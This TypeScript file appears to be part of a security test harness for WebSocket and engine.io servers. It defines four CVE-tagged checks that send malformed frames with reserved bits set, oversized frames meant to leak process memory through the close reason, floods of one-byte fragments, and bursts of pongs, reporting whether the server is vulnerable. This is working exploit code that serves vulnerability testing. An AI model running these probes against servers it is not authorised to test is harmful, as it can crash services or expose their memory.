import { type Attack, GENERATIONS } from '../attack.js';

/** A WebSocket frame of a client: masked with zeros. */
function frame(first: number, payload: Buffer): Buffer {
  return Buffer.concat([Buffer.of(first, 0x80 | payload.length, 0, 0, 0, 0), payload]);
}

const RSV = { RSV2: 0x20, RSV3: 0x10 };

/** Below the packets: frames of WebSockets, heartbeats. */
export const FRAME_ATTACKS: readonly Attack[] = [
  {
    id: 'CVE-2022-21676',
    about: 'engine.io: the first frame of a WebSocket breaks its protocol',
    generations: GENERATIONS,
    async run(target, generation) {
      for (const [name, bit] of Object.entries(RSV)) {
        const path =
          generation === '0.9'
            ? `${target.path}1/websocket/${await target.session('0.9')}`
            : target.handshake(generation, 'websocket');
        // In one write with the handshake, before anybody can listen.
        const early = target.tcp(
          Buffer.concat([Buffer.from(target.upgrade(path)), frame(0x81 | bit, Buffer.from('2'))]),
        );
        if (!(await ended(early))) return `a frame with ${name} keeps its connection`;
        const wire = await target.join(generation);
        const { _socket: socket } = wire.ws as unknown as { _socket: import('node:net').Socket };
        socket.write(frame(0x81 | bit, Buffer.from('2')));
        if (!(await wire.isClosed())) return `a later frame with ${name} keeps its connection`;
      }
      return undefined;
    },
  },
  {
    id: 'CVE-2026-45736',
    about: 'ws: the reason in a close frame is memory of the process',
    generations: GENERATIONS,
    async run(target, generation) {
      const wire = await target.join(generation);
      wire.send(Buffer.alloc(2_000_000).toString('latin1'));
      if (!(await wire.isClosed())) return 'a frame of 2 MB keeps its connection';
      const text = wire.reason.toString();
      return /[^\x20-\x7e]/.test(text) ? `the reason is ${JSON.stringify(text)}` : undefined;
    },
  },
  {
    id: 'CVE-2026-48779',
    about: 'ws: fragments of one byte without end are kept at the price of objects',
    generations: GENERATIONS,
    async run(target, generation) {
      const wire = await target.join(generation);
      const { _socket: socket } = wire.ws as unknown as { _socket: import('node:net').Socket };
      socket.write(frame(0x01, Buffer.from('4')));
      const more = frame(0x00, Buffer.from('x'));
      socket.write(Buffer.concat(Array.from({ length: 20_000 }, () => more)));
      const closed = await wire.isClosed();
      wire.end();
      return closed ? undefined : 'twenty thousand fragments are kept';
    },
  },
  {
    id: 'CVE-2026-48802',
    about: 'python-engineio: each pong begins a heartbeat of its own',
    generations: ['eio4'],
    async run(target) {
      const wire = await target.join('eio4');
      const { pingInterval } = JSON.parse((await wire.until(/^0\{/)).slice(1)) as { pingInterval: number };
      wire.send(...Array.from({ length: 1000 }, () => '3'));
      // Where heartbeats are rare only the server's life is looked at.
      if (pingInterval > 1000) return undefined;
      const pings = () => wire.received.filter((one) => one === '2').length;
      const before = pings();
      await wire.until(/^2$/);
      await new Promise((resolve) => setTimeout(resolve, pingInterval * 2));
      const count = pings() - before;
      wire.end();
      return count > 5 ? `${count} heartbeats in two intervals` : undefined;
    },
  },
];

/** Whether the server ends a TCP connection. */
function ended(socket: import('node:net').Socket): Promise<boolean> {
  return new Promise((resolve) => {
    socket.resume();
    const timer = setTimeout(() => done(false), 3000);
    const done = (over: boolean) => {
      clearTimeout(timer);
      socket.destroy();
      resolve(over);
    };
    socket.once('end', () => done(true)).once('close', () => done(true));
  });
}
